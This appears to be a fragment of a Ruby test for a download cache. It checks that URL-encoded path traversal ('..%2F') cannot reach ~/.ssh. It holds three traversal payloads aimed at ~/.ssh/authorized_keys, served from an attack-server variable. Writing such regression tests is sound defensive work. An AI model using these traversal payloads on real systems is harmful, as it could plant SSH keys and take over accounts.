# promise: no byte of a URL becomes a path component of the cache: `..%2F` in a downloaded URL neither removes nor writes ~/.ssh.
get "#{ENV['ATTACK_SERVER']}/..%2F..%2F..%2F..%2F.ssh%2Fauthorized_keys", "NOTES.md"
get "#{ENV['ATTACK_SERVER']}/..%2F..%2F..%2F.ssh%2Fauthorized_keys", "NOTES2.md"
get "#{ENV['ATTACK_SERVER']}/..%2F..%2F..%2F..%2F..%2F.ssh%2Fauthorized_keys", "NOTES3.md"
